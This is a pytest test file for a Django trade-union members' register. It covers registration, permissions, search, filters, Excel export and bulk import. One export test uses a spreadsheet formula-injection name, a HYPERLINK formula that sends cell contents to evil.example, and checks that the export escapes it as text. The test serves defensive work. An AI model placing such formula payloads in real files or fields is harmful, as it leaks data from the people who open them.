"""The members' register: services, pages, permission matrix, search, export, invitation."""

import datetime
import re
from io import BytesIO

import pytest
from django.core import mail
from django.db import IntegrityError
from django.urls import reverse
from django.utils.translation import gettext
from openpyxl import load_workbook

from accounts.errors import ApplicationError
from accounts.models import User
from accounts.search import fold
from tests.factories import MembershipFactory, RoleGrantFactory, UserFactory
from unions import services
from unions.enums import MembershipEndReason, Role
from unions.models import Membership
from unions.services import members as member_services
from unions.services.members import PersonData

START = datetime.date(2024, 3, 1)
PERSON = PersonData(
    last_name="Nguyễn Thị",
    first_name="Hằng",
    sex="female",
    date_of_birth=datetime.date(1990, 5, 17),
    identity_number="045190001234",
    phone="0912345678",
    email="hang@example.vn",
)


def _grant(unit, role=Role.OFFICER) -> User:
    person = UserFactory()
    RoleGrantFactory(user=person, unit=unit, role=role)
    return person


def _register(unit, person=PERSON, **kwargs) -> Membership:
    kwargs.setdefault("valid_from", START)
    kwargs.setdefault("card_number", "QT-000001")
    return member_services.member_register(person=person, unit=unit, **kwargs)


# --- services ------------------------------------------------------------------------------


def test_register_without_account_keeps_an_inactive_person(tree):
    membership = _register(tree.grassroots_a1x, person=PersonData("Lê Văn", "Tám"))
    person = membership.user
    assert (person.is_active, person.has_usable_password()) == (False, False)
    assert (person.email, person.phone) == (None, None)
    assert membership.card_number == "QT-000001"
    assert mail.outbox == []


def test_register_with_account_emails_a_working_set_password_link(
    tree, client, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        membership = _register(tree.grassroots_a1x, with_account=True)
    assert membership.user.is_active
    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == ["hang@example.vn"]
    link = re.search(r"http://testserver(/\S+)", message.body).group(1)
    response = client.get(link, follow=True)
    assert response.status_code == 200
    form_url = response.redirect_chain[-1][0]
    response = client.post(
        form_url, {"new_password1": "Mat-khau-moi-2024", "new_password2": "Mat-khau-moi-2024"}
    )
    assert response.status_code == 302
    membership.user.refresh_from_db()
    assert membership.user.check_password("Mat-khau-moi-2024")


def test_register_with_account_needs_an_email(tree):
    with pytest.raises(ApplicationError) as error:
        _register(
            tree.grassroots_a1x,
            person=PersonData("Lê", "Tám", phone="0912000111"),
            with_account=True,
        )
    assert error.value.field == "email"
    assert not User.objects.filter(first_name="Tám").exists()


def test_card_number_is_unique_across_the_country(tree):
    _register(tree.grassroots_a1x)
    with pytest.raises(ApplicationError) as error:
        _register(tree.grassroots_b1x, person=PersonData("Trần", "Bình"), card_number="qt-000001")
    assert error.value.field == "card_number"
    assert Membership.objects.count() == 1


def test_card_number_held_in_history_stays_the_persons(tree):
    membership = _register(tree.grassroots_a1x)
    member_services.membership_end(
        membership=membership, end_date=START, reason=MembershipEndReason.LEFT
    )
    with pytest.raises(ApplicationError):
        _register(tree.grassroots_b1x, person=PersonData("Trần", "Bình"))


def test_database_refuses_two_current_rows_with_one_card(tree):
    MembershipFactory(unit=tree.grassroots_a1x, card_number="X1")
    with pytest.raises(IntegrityError):
        MembershipFactory(unit=tree.grassroots_a1y, card_number="X1")


def test_register_refuses_details_of_another_person(tree):
    UserFactory(email="hang@example.vn")
    with pytest.raises(ApplicationError) as error:
        _register(tree.grassroots_a1x)
    assert error.value.field == "email"


def test_register_refuses_a_bad_identity_number(tree):
    bad = PersonData("Lê", "Tám", identity_number="12345")
    with pytest.raises(ApplicationError) as error:
        _register(tree.grassroots_a1x, person=bad)
    assert error.value.field == "identity_number"


def test_register_refuses_a_unit_that_takes_no_members(tree):
    with pytest.raises(ApplicationError):
        _register(tree.district_a1)
    assert not User.objects.filter(email="hang@example.vn").exists()


def test_move_keeps_history_and_the_card(tree):
    membership = _register(tree.grassroots_a1x, joined_on=datetime.date(2010, 1, 1))
    moved = services.membership_move(
        membership=membership, unit=tree.grassroots_a1y, effective_date=datetime.date(2024, 6, 1)
    )
    assert (moved.card_number, moved.joined_on) == ("QT-000001", datetime.date(2010, 1, 1))
    rows = list(Membership.objects.filter(user=membership.user).order_by("valid_from"))
    assert [(r.unit_id, r.valid_to) for r in rows] == [
        (tree.grassroots_a1x.pk, datetime.date(2024, 6, 1)),
        (tree.grassroots_a1y.pk, None),
    ]


def test_end_records_reason_and_date(tree):
    membership = _register(tree.grassroots_a1x)
    ended = member_services.membership_end(
        membership=membership,
        end_date=datetime.date(2024, 9, 30),
        reason=MembershipEndReason.RETIRED,
        note="Quyết định nghỉ hưu số 12",
    )
    assert (ended.valid_to, ended.end_reason) == (datetime.date(2024, 9, 30), "retired")
    with pytest.raises(ApplicationError):
        member_services.membership_end(
            membership=ended, end_date=datetime.date(2024, 9, 30), reason="retired"
        )


@pytest.mark.parametrize(
    ("end_date", "reason"),
    [
        (datetime.date(2023, 1, 1), "retired"),
        (datetime.date(2024, 5, 1), "fired"),
        (datetime.date(2999, 1, 1), "died"),
    ],
)
def test_end_refuses_bad_dates_and_reasons(tree, end_date, reason):
    membership = _register(tree.grassroots_a1x)
    with pytest.raises(ApplicationError):
        member_services.membership_end(membership=membership, end_date=end_date, reason=reason)
    membership.refresh_from_db()
    assert membership.valid_to is None


def test_update_changes_the_card_on_every_row(tree):
    membership = _register(tree.grassroots_a1x)
    moved = services.membership_move(
        membership=membership, unit=tree.grassroots_a1y, effective_date=datetime.date(2024, 6, 1)
    )
    member_services.member_update(
        membership=moved,
        person=PERSON,
        card_number="QT-999",
        joined_on=None,
        position="Tổ trưởng",
        qualification="",
    )
    assert set(Membership.objects.values_list("card_number", flat=True)) == {"QT-999"}


# --- pages: permission matrix --------------------------------------------------------------

POSITIONS = {
    # where the grant sits → may the holder see a member of grassroots_a1x?
    "same unit": ("grassroots_a1x", True),
    "ancestor": ("province_a", True),
    "sibling": ("grassroots_a1y", False),
    "other branch": ("province_b", False),
    "descendant-less district": ("district_a2", False),
}


@pytest.mark.parametrize("position", POSITIONS)
@pytest.mark.parametrize("role", [Role.OFFICER, Role.VIEWER, Role.EDITOR])
def test_member_pages_matrix(tree, client, role, position):
    unit_name, in_scope = POSITIONS[position]
    membership = _register(tree.grassroots_a1x)
    client.force_login(_grant(getattr(tree, unit_name), role))
    may_view = in_scope and role in (Role.OFFICER, Role.VIEWER)
    may_manage = in_scope and role == Role.OFFICER
    detail = client.get(reverse("unions:member_detail", args=[membership.pk]))
    assert detail.status_code == (200 if may_view else 404)
    if may_view:
        assert "045190001234" in detail.content.decode()
    listing = client.get(reverse("unions:member_list"))
    if role == Role.EDITOR:
        assert listing.status_code == 403
    else:
        assert listing.status_code == 200
        names = [m.user.first_name for m in listing.context["page"].object_list]
        assert names == (["Hằng"] if may_view else [])
    for name in ("member_update", "member_move", "member_end"):
        response = client.get(reverse(f"unions:{name}", args=[membership.pk]))
        assert response.status_code == (200 if may_manage else 404), name
    create = client.get(reverse("unions:member_create"))
    assert create.status_code == (200 if role == Role.OFFICER else 403)


def test_anonymous_is_sent_to_sign_in(tree, client):
    membership = _register(tree.grassroots_a1x)
    for url in (
        reverse("unions:member_list"),
        reverse("unions:member_detail", args=[membership.pk]),
    ):
        assert client.get(url).status_code == 302


def test_a_member_does_not_see_the_register(tree, client):
    membership = _register(tree.grassroots_a1x)
    client.force_login(UserFactory())
    assert client.get(reverse("unions:member_list")).status_code == 403
    assert client.get(reverse("unions:member_detail", args=[membership.pk])).status_code == 404


# --- pages: list, search, filters, export --------------------------------------------------


@pytest.fixture
def officer_client(client, tree):
    client.force_login(_grant(tree.province_a))
    return client


def _names(response) -> list[str]:
    return [m.user.get_full_name() for m in response.context["page"].object_list]


def test_search_ignores_diacritics_and_covers_card_phone_email(tree, officer_client):
    _register(tree.grassroots_a1x)
    _register(
        tree.grassroots_a1y,
        person=PersonData("Trần Văn", "Đông", phone="0987000111"),
        card_number="QT-000002",
    )
    url = reverse("unions:member_list")
    assert _names(officer_client.get(url, {"q": "nguyen thi hang"})) == ["Nguyễn Thị Hằng"]
    assert _names(officer_client.get(url, {"q": "QT-000002"})) == ["Trần Văn Đông"]
    assert _names(officer_client.get(url, {"q": "0987"})) == ["Trần Văn Đông"]
    assert _names(officer_client.get(url, {"q": "hang@example.vn"})) == ["Nguyễn Thị Hằng"]


def test_filters_unit_subtree_sex_status_year(tree, officer_client):
    first = _register(tree.grassroots_a1x, joined_on=datetime.date(2010, 4, 1))
    _register(
        tree.grassroots_a1y, person=PersonData("Trần Văn", "Đông", sex="male"), card_number="QT-2"
    )
    member_services.membership_end(membership=first, end_date=START, reason="left")
    url = reverse("unions:member_list")
    assert len(_names(officer_client.get(url, {"unit": tree.district_a1.code}))) == 2
    assert _names(officer_client.get(url, {"unit": tree.grassroots_a1y.code.lower()})) == [
        "Trần Văn Đông"
    ]
    assert _names(officer_client.get(url, {"sex": "female"})) == ["Nguyễn Thị Hằng"]
    assert _names(officer_client.get(url, {"status": "current"})) == ["Trần Văn Đông"]
    assert _names(officer_client.get(url, {"status": "ended"})) == ["Nguyễn Thị Hằng"]
    assert _names(officer_client.get(url, {"year": 2010})) == ["Nguyễn Thị Hằng"]
    assert _names(officer_client.get(url, {"year": 2024})) == ["Trần Văn Đông"]


def test_filter_refuses_a_unit_out_of_scope(tree, officer_client):
    _register(tree.grassroots_a1x)
    response = officer_client.get(reverse("unions:member_list"), {"unit": tree.grassroots_b1x.code})
    assert response.status_code == 200
    assert response.context["filter"].form.errors["unit"] == [
        f"Không có đơn vị nào trong phạm vi của bạn có mã hoặc tên này: {tree.grassroots_b1x.code}."
    ]


def test_unit_filter_takes_words_of_a_name_and_keeps_each_subtree_once(tree, officer_client):
    _register(tree.grassroots_a1x)
    _register(
        tree.grassroots_a1y, person=PersonData("Trần Văn", "Đông", sex="male"), card_number="QT-2"
    )
    url = reverse("unions:member_list")
    # Words of the district's name, without diacritics: the district and both unions under it
    # match, and each member is listed once.
    words = fold(tree.district_a1.name).split()
    response = officer_client.get(url, {"unit": " ".join(words)})
    assert sorted(_names(response)) == ["Nguyễn Thị Hằng", "Trần Văn Đông"]


def test_unit_filter_asks_for_more_when_too_many_units_match(tree, officer_client, monkeypatch):
    from unions.filters import UnitLookupField

    monkeypatch.setattr(UnitLookupField, "MAX_MATCHES", 1)
    response = officer_client.get(reverse("unions:member_list"), {"unit": "cong doan"})
    assert response.context["filter"].form.errors["unit"] == [
        "Hơn 1 đơn vị khớp: hãy gõ thêm tên hoặc gõ mã đơn vị."
    ]


def test_list_query_count_is_constant(tree, officer_client, django_assert_max_num_queries):
    url = reverse("unions:member_list")
    MembershipFactory(unit=tree.grassroots_a1x)
    with django_assert_max_num_queries(12) as few:
        officer_client.get(url)
    for _ in range(20):
        MembershipFactory(unit=tree.grassroots_a1y)
    with django_assert_max_num_queries(len(few.captured_queries)):
        response = officer_client.get(url)
    assert len(response.context["page"].object_list) == 21


def test_export_lists_the_filtered_members(tree, officer_client):
    _register(tree.grassroots_a1x)
    _register(tree.grassroots_a1y, person=PersonData("Trần Văn", "Đông"), card_number="QT-2")
    response = officer_client.get(reverse("unions:member_list"), {"q": "hang", "export": "xlsx"})
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "Họ và tên"
    assert len(rows) == 2
    assert rows[1][0] == "Nguyễn Thị Hằng" and rows[1][3] == "045190001234"


# --- pages: writes -------------------------------------------------------------------------


def test_create_page_registers_and_invites(
    tree, officer_client, django_capture_on_commit_callbacks
):
    data = {
        "last_name": "Phạm Văn",
        "first_name": "Cường",
        "sex": "male",
        "date_of_birth": "02/03/1985",
        "identity_number": "",
        "phone": "912 345 679",
        "email": "cuong@example.vn",
        "unit": tree.grassroots_a1x.pk,
        "card_number": "QT-77",
        "valid_from": "01/02/2024",
        "joined_on": "",
        "position": "",
        "qualification": "",
        "with_account": "on",
    }
    data["phone"] = "0912 345 679"
    with django_capture_on_commit_callbacks(execute=True):
        response = officer_client.post(reverse("unions:member_create"), data)
    assert response.status_code == 302
    membership = Membership.objects.get(card_number="QT-77")
    assert membership.user.phone == "0912345679"
    assert membership.user.date_of_birth == datetime.date(1985, 3, 2)
    assert mail.outbox[0].to == ["cuong@example.vn"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("date_of_birth", "31/02/1990"),
        ("phone", "12345"),
        ("identity_number", "abc"),
        ("valid_from", "01/01/2999"),
        ("email", "không-phải-email"),
    ],
)
def test_create_page_shows_errors_and_saves_nothing(tree, officer_client, field, value):
    data = {
        "last_name": "Phạm",
        "first_name": "Cường",
        "unit": tree.grassroots_a1x.pk,
        "valid_from": "01/02/2024",
        field: value,
    }
    response = officer_client.post(reverse("unions:member_create"), data)
    assert response.status_code == 200
    assert field in response.context["form"].errors
    assert not User.objects.filter(first_name="Cường").exists()


def test_create_page_refuses_a_unit_out_of_scope(tree, officer_client):
    data = {
        "last_name": "Phạm",
        "first_name": "Cường",
        "unit": tree.grassroots_b1x.pk,
        "valid_from": "01/02/2024",
    }
    response = officer_client.post(reverse("unions:member_create"), data)
    assert "unit" in response.context["form"].errors


def test_move_and_end_pages(tree, officer_client):
    membership = _register(tree.grassroots_a1x)
    response = officer_client.post(
        reverse("unions:member_move", args=[membership.pk]),
        {"unit": tree.grassroots_a1y.pk, "effective_date": "01/06/2024"},
    )
    moved = Membership.objects.get(user=membership.user, valid_to__isnull=True)
    assert response.url == reverse("unions:member_detail", args=[moved.pk])
    page = officer_client.get(response.url).content.decode()
    assert "Công đoàn cơ sở Công ty May Sông Hiếu" in page  # the history
    officer_client.post(
        reverse("unions:member_end", args=[moved.pk]),
        {"reason": "died", "end_date": "02/06/2024", "note": ""},
    )
    moved.refresh_from_db()
    assert (moved.end_reason, moved.valid_to) == ("died", datetime.date(2024, 6, 2))


def test_private_details_stay_off_the_unit_page_and_public_pages(tree, client):
    membership = _register(tree.grassroots_a1x)
    client.force_login(_grant(tree.province_a, Role.EDITOR))
    page = client.get(reverse("unions:unit_detail", args=[tree.grassroots_a1x.pk]))
    body = page.content.decode()
    for secret in ("045190001234", "0912345678", "17/05/1990"):
        assert secret not in body
    client.logout()
    body = client.get("/").content.decode()
    assert "045190001234" not in body and membership.user.phone not in body


def test_profile_shows_the_members_own_record(tree, client):
    membership = _register(tree.grassroots_a1x, with_account=True)
    client.force_login(membership.user)
    body = client.get(reverse("profile")).content.decode()
    assert "QT-000001" in body and "045190001234" in body


def test_navigation_shows_the_register_and_imports_to_officers_only(tree, client):
    client.force_login(_grant(tree.district_a1))
    body = client.get(reverse("profile")).content.decode()
    assert reverse("unions:member_list") in body and reverse("imports:start") in body
    client.force_login(_grant(tree.district_a1, Role.EDITOR))
    body = client.get(reverse("profile")).content.decode()
    assert reverse("unions:member_list") not in body and reverse("imports:start") not in body


# --- registering many at once (the import's path) ------------------------------------------


def _new(unit, first_name, **kwargs):
    person = PersonData("Lê Văn", first_name, phone=kwargs.pop("phone", ""))
    return member_services.NewMember(person=person, unit=unit, valid_from=START, **kwargs)


def test_register_many_creates_people_without_accounts(tree):
    memberships = member_services.members_register_many(
        members=[
            _new(tree.grassroots_a1x, "Một", card_number="M-1"),
            _new(tree.grassroots_a1y, "Hai", phone="0912000002"),
        ]
    )
    assert [m.user.first_name for m in memberships] == ["Một", "Hai"]
    assert not any(m.user.is_active or m.user.has_usable_password() for m in memberships)
    assert Membership.objects.filter(valid_to__isnull=True).count() == 2


@pytest.mark.parametrize(
    ("member", "field"),
    [
        ({"card_number": "QT-000001"}, "card_number"),
        ({"phone": "0912345678"}, "phone"),
        ({"unit": "district_a1"}, "unit"),
        ({"valid_from": datetime.date(2999, 1, 1)}, "valid_from"),
    ],
)
def test_register_many_names_the_member_at_fault_and_saves_nothing(tree, member, field):
    _register(tree.grassroots_a1x)
    unit = getattr(tree, member.pop("unit", "grassroots_b1x"))
    valid_from = member.pop("valid_from", START)
    bad = member_services.NewMember(
        person=PersonData("Lê Văn", "Sai", phone=member.pop("phone", "")),
        unit=unit,
        valid_from=valid_from,
        **member,
    )
    with pytest.raises(member_services.MemberRowError) as error:
        member_services.members_register_many(members=[_new(tree.grassroots_b1x, "Đúng"), bad])
    assert (error.value.index, error.value.field) == (1, field)
    assert Membership.objects.count() == 1


def test_export_writes_a_hostile_name_as_text(tree, officer_client):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    _register(tree.grassroots_a1x, person=PersonData(hostile, "Hằng"), card_number="@QT-1")
    response = officer_client.get(reverse("unions:member_list"), {"export": "xlsx"})
    sheet = load_workbook(BytesIO(response.content)).active
    name, card = sheet["A2"], sheet["H2"]
    assert name.data_type == card.data_type == "s"
    assert name.value.startswith("'=HYPERLINK(") and card.value == "'@QT-1"


def test_search_of_a_common_word_counts_ten_pages_at_most(
    tree, officer_client, monkeypatch, django_assert_max_num_queries
):
    """A search counts at most ``SEARCH_COUNT_LIMIT`` rows (issue 14: "nguyen" matches a tenth
    of the country) and says so; the pages offered are the first ones. Its queries do not
    grow with the matches (one more than the list: the card number's probe)."""
    from unions.views import members as member_views

    monkeypatch.setattr(member_views, "SEARCH_COUNT_LIMIT", 3)
    for number in range(4):
        _register(
            tree.grassroots_a1x,
            person=PersonData("Nguyễn Văn", f"An {number}"),
            card_number=f"QT-10{number}",
        )
    url = reverse("unions:member_list")
    with django_assert_max_num_queries(13) as few:
        response = officer_client.get(url, {"q": "nguyen"})
    paginator = response.context["page"].paginator
    assert (paginator.count, paginator.count_capped) == (4, True)
    message = gettext(
        "More than %(limit)s members: narrow the search or the filters to see them all."
    ) % {"limit": 3}
    assert message in response.content.decode()
    # In the register's order: by name, then the person.
    assert _names(response) == [f"Nguyễn Văn An {n}" for n in range(4)]
    for number in range(4, 10):
        _register(
            tree.grassroots_a1y,
            person=PersonData("Nguyễn Văn", f"An {number}"),
            card_number=f"QT-10{number}",
        )
    with django_assert_max_num_queries(len(few.captured_queries)):
        officer_client.get(url, {"q": "nguyen"})

    monkeypatch.setattr(member_views, "SEARCH_COUNT_LIMIT", 20)
    paginator = officer_client.get(url, {"q": "nguyen"}).context["page"].paginator
    assert (paginator.count, paginator.count_capped) == (10, False)
    # A card number is still found whole, with the rows of people whose names hold it.
    assert _names(officer_client.get(url, {"q": "qt-105"})) == ["Nguyễn Văn An 5"]
